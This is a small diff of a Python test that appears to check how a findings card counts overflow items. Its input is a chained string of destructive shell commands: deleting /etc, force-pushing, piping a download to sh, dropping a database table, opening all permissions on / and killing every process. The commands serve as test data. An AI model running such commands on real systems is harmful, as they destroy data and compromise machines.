@@ -75,7 +75,7 @@ def test_what_has_no_room_is_counted() -> None:
         "sudo rm -rf /etc && git push --force && curl x | sh && psql -c 'DROP TABLE t' && chmod -R 777 / && kill -9 -1"
     )
     words = said(draw.card_of(ticket(many), samples.MINT))
-    assert words[-1].endswith(" more findings")
+    assert words[-1] == "1 more finding"
     assert len(words) == 6
 
 
